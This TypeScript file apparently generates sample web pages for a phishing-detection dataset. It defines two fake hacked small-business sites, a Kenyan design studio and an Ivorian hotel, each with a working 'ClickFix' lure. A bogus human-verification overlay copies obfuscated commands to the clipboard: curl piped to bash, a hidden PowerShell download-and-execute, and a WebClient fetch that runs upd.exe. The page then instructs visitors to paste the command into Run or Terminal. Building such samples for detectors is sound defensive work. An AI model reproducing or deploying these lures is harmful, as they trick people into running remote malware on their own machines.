import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, codes, cookieBar, doc, favicon, gtag, hexOf, pct, rev, wordmark, xorB64 } from '../parts/yh-kit.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsRoute, jsonRoute, lnk, pe, pngRoute, rar5, sevenZip, zip } from '../parts/e-bin.js';


export const entries: Entry[] = [
{
  id: 'yh-clickfix-mac-terminal-design-studio',
  label: 'clickfix',
  kind: 'clickfix-hacked-smb',
  url: 'https://www.kilimanjaro-creative.co.ke/portfolio/brand-identity',
  body: doc('Brand Identity Portfolio – Kilimanjaro Creative, Nairobi', `
<nav><b>Kilimanjaro Creative</b><a>Work</a><a>Studio</a><a>Contact</a></nav>
<div class="pf"><div>Safari Bank rebrand</div><div>Mama Mboga app</div><div>Nairobi Jazz Fest</div><div>Tuko Coffee</div></div>
<div id="ov" class="ov"><div class="card">
 <h2>Security check</h2>
 <p>We detected unusual traffic from your network. To view this portfolio, please complete a quick verification.</p>
 <div id="win"><p><b>Windows:</b> press ⊞ Win + R, paste (Ctrl + V) and press Enter.</p></div>
 <div id="mac" hidden><p><b>macOS:</b></p><ol><li>Press <b>⌘ Command + Space</b>, type <b>Terminal</b> and press Return.</li><li>Paste with <b>⌘ + V</b> and press <b>Return</b>.</li><li>Enter your Mac password if asked to complete the check.</li></ol></div>
 <button id="cp">Copy verification code</button><span id="d"></span>
</div></div>
<script>
var mac=/Mac|iPhone|iPad/.test(navigator.platform||navigator.userAgent);
if(mac){document.getElementById('mac').hidden=false;document.getElementById('win').hidden=true}
var M="${b64('curl -fsSL https://kilimanjaro-creative.co.ke/wp-content/cache/verify.sh | bash')}";
var W="${b64('powershell -nop -w hidden -ep bypass -c "iwr https://kilimanjaro-creative.co.ke/wp-content/cache/v.ps1 -UseBasicParsing | iex"')}";
document.getElementById('cp').onclick=function(){var c=mac?'echo '+M+' | base64 -d | bash':atob(W);navigator.clipboard.writeText(c).then(function(){document.getElementById('d').textContent=' ✓ copied'})};
</script>`, {
    css: `body{margin:0;font-family:"Helvetica Neue",Arial,sans-serif}nav{display:flex;gap:20px;padding:20px 30px}nav b{flex:1}.pf{display:grid;grid-template-columns:1fr 1fr;gap:10px;padding:30px}.pf div{height:200px;background:#ddd;display:flex;align-items:end;padding:12px}
.ov{position:fixed;inset:0;background:#0009;display:flex;align-items:center;justify-content:center}.card{background:#fff;width:460px;padding:24px;border-radius:10px}#cp{background:#111;color:#fff;border:0;padding:10px 20px;border-radius:6px}`,
  }),
},
{
  id: 'yh-clickfix-hotel-abidjan-verification-fr',
  label: 'clickfix',
  kind: 'clickfix-hacked-smb',
  url: 'https://www.hotel-lagune-cocody.ci/reservation/',
  body: doc('Réservation – Hôtel La Lagune, Cocody', `
<div class="h"><b>Hôtel La Lagune</b> · Cocody, Abidjan</div>
<div class="c"><h1>Réserver une chambre</h1><p>Chambre Deluxe à partir de 65 000 FCFA la nuit, petit-déjeuner inclus. Navette aéroport sur demande.</p></div>
<div class="ov" id="ov">
 <div class="bx">
  <div class="t">Vérification humaine requise</div>
  <p>Pour protéger nos clients contre les robots, veuillez confirmer que vous êtes humain.</p>
  <label class="chk"><input type="checkbox" id="cb"> Je ne suis pas un robot</label>
  <div id="et" hidden>
   <p><b>Étapes de vérification :</b></p>
   <ol><li>Appuyez sur la touche <b>Windows + R</b></li><li>Appuyez sur <b>Ctrl + V</b></li><li>Appuyez sur <b>Entrée</b></li></ol>
   <p class="p">ID de vérification : 8842-CI</p>
  </div>
 </div>
</div>
<script>
var k=[99,109,100,32,47,99,32,115,116,97,114,116,32,47,109,105,110,32,112,111,119,101,114,115,104,101,108,108,32,45,101,112,32,98,121,112,97,115,115,32,45,119,32,49,32,45,99,32];
var tail="${b64("\"$w=New-Object Net.WebClient;$w.DownloadFile('https://hotel-lagune-cocody.ci/wp-admin/css/upd.exe',\"$env:TEMP\\upd.exe\");Start-Process \"$env:TEMP\\upd.exe\"\" & rem Vérification humaine ID 8842-CI")}";
document.getElementById('cb').addEventListener('change',function(){
 var s=String.fromCharCode.apply(null,k)+decodeURIComponent(escape(atob(tail)));
 navigator.clipboard.writeText(s).catch(function(){});
 document.getElementById('et').hidden=false;
});
</script>`, {
    lang: 'fr',
    css: `body{margin:0;font-family:Arial,sans-serif}.h{background:#0d4d5c;color:#fff;padding:16px 22px}.c{padding:20px}.ov{position:fixed;inset:0;background:#fffffff2;display:flex;align-items:center;justify-content:center}.bx{width:420px;border:1px solid #ccc;border-radius:6px;padding:20px;box-shadow:0 4px 20px #0002}
.t{font-size:18px;font-weight:bold}.chk{display:flex;gap:10px;align-items:center;border:1px solid #ddd;padding:14px;background:#f9f9f9}.p{font-size:12px;color:#777}`,
  }),
},
];
